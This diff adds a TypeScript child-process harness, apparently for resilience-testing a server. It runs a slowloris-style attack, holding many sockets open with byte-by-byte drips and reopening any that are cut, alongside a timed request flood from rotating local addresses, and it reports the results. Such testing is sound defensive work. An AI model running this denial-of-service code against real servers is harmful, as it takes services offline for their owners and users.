@@ -1,0 +1,113 @@
+import { connect, type Socket } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+
+/** What the process `attacker.ts` does until its parent says stop. Raw sockets: it shares two cores with what it attacks. */
+export interface Attack {
+  host: string;
+  port: number;
+  /** Local addresses, taken in turn. */
+  from: readonly string[];
+  /** Sockets that send `head` and then one byte of `drip` every `everyMs`; one that is cut is opened again. */
+  slow?: { sockets: number; head: string; drip: string; everyMs: number };
+  /** Where the numbers begin that are put in place of `{n}`. */
+  first: number;
+  /** Requests, each on a connection of its own, `atOnce` of them every `everyMs`. `{n}` becomes a number that is used once. */
+  requests?: { texts: readonly string[]; atOnce: number; everyMs: number };
+}
+
+export interface AttackReport {
+  opened: number;
+  /** Slow sockets that the other side ended. */
+  cut: number;
+  /** Longest time a slow socket stayed open, in seconds. */
+  longestSeconds: number;
+  /** Answers by status; 0 for none. */
+  answers: Record<string, number>;
+  /** Of this process, as a share of one core. */
+  cpuShare: number;
+}
+
+const REOPENED_AFTER_MS = 500;
+
+function start(attack: Attack): () => AttackReport {
+  const report: AttackReport = { opened: 0, cut: 0, longestSeconds: 0, answers: {}, cpuShare: 0 };
+  const begun = performance.now();
+  let isOver = false;
+  let turn = 0;
+  const open = (): Socket => {
+    report.opened += 1;
+    turn += 1;
+    const localAddress = attack.from[turn % attack.from.length] ?? '127.0.0.1';
+    const socket = connect({ host: attack.host, port: attack.port, localAddress });
+    socket.on('error', () => undefined);
+    return socket;
+  };
+  const sockets = new Set<Socket>();
+
+  function openSlow({ head }: NonNullable<Attack['slow']>): void {
+    const from = performance.now();
+    const socket = open();
+    sockets.add(socket);
+    socket.write(head);
+    socket.resume();
+    socket.once('close', () => {
+      sockets.delete(socket);
+      report.longestSeconds = Math.max(report.longestSeconds, (performance.now() - from) / 1_000);
+      if (isOver) return;
+      report.cut += 1;
+      setTimeout(() => !isOver && openSlow(attack.slow as never), REOPENED_AFTER_MS);
+    });
+  }
+
+  function send(text: string): void {
+    const socket = open();
+    let status = '0';
+    socket.once('data', (chunk) => (status = /^HTTP\/1\.1 (\d+)/.exec(chunk.toString('latin1', 0, 20))?.[1] ?? '0'));
+    socket.on('data', () => undefined);
+    socket.once('close', () => (report.answers[status] = (report.answers[status] ?? 0) + 1));
+    socket.setTimeout(20_000, () => socket.destroy());
+    socket.write(text);
+  }
+
+  async function keepSending({ texts, atOnce, everyMs }: NonNullable<Attack['requests']>): Promise<void> {
+    let sent = attack.first;
+    for (let due = performance.now(); !isOver; due += everyMs) {
+      await sleep(Math.max(0, due - performance.now()));
+      for (let count = 0; count < atOnce; count += 1) {
+        sent += 1;
+        send((texts[sent % texts.length] ?? '').replaceAll('{n}', String(sent)));
+      }
+    }
+  }
+
+  if (attack.slow) {
+    const { slow } = attack;
+    for (let count = 0; count < slow.sockets; count += 1) openSlow(slow);
+    setInterval(() => {
+      for (const socket of sockets) if (socket.writable) socket.write(slow.drip);
+    }, slow.everyMs);
+  }
+  if (attack.requests) void keepSending(attack.requests);
+  return () => {
+    isOver = true;
+    for (const socket of sockets) socket.destroy();
+    const { user, system } = process.cpuUsage();
+    const seconds = (performance.now() - begun) / 1_000;
+    const longestSeconds = report.longestSeconds === 0 && attack.slow ? seconds : report.longestSeconds;
+    return { ...report, longestSeconds, cpuShare: (user + system) / 1e6 / seconds };
+  };
+}
+
+// Only as a process of its own.
+if (process.send) {
+  process.send('ready');
+  process.once('message', (attack: Attack) => {
+    const stop = start(attack);
+    process.once('message', () => {
+      process.send?.(stop());
+      process.disconnect();
+      process.exit();
+    });
+  });
+  process.once('disconnect', () => process.exit());
+}
